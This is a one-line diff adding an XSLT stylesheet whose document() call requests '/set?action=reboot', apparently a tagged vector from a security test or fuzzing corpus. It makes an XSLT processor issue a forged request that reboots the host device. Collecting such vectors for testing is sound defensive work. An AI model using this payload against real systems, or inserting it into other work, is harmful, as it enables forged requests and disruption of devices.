@@ -1,0 +1,1 @@
+<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><b><xsl:value-of select="document('/set?action=reboot&amp;w=xslt-document')"/></b></xsl:template></xsl:stylesheet>
